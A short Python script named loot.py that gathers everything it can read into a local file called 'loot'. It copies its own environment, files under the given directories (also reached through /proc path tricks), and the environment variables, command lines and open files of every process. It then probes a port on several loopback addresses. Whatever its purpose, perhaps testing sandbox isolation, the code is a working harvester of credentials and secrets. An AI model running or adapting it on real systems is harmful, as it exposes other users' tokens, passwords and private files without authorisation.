# Writes whatever it can read of these directories, and of every process, to the file `loot`: loot.py PORT DIRECTORY...
import glob, os, socket, sys

port, roots = int(sys.argv[1]), sys.argv[2:]

def take(loot, path):
    try:
        with open(path, 'rb', buffering=0) as file:
            loot.write(path.encode() + b'\n' + (file.read(1 << 20) or b'') + b'\n')
    except OSError:
        pass

with open('loot', 'wb') as loot:
    loot.write(repr(dict(os.environ)).encode())
    for root in roots:
        for way in root, '/proc/self/root' + root, '/proc/self/cwd/' + os.path.relpath(root):
            for directory, _, files in os.walk(way):
                for name in files:
                    if name != 'loot':
                        take(loot, os.path.join(directory, name))
    for process in glob.glob('/proc/[0-9]*'):
        for name in 'environ', 'cmdline':
            take(loot, process + '/' + name)
        for descriptor in glob.glob(process + '/fd/*'):
            try:
                if os.path.isfile(descriptor):
                    take(loot, descriptor)
            except OSError:
                pass

for host in '127.0.0.1', '127.1', '0.0.0.0', 'localhost', '::1', '::ffff:127.0.0.1', socket.gethostname():
    try:
        socket.create_connection((host, port), 3).close()
        print('connected to', host)
    except OSError as error:
        print('tried', host, error.errno)
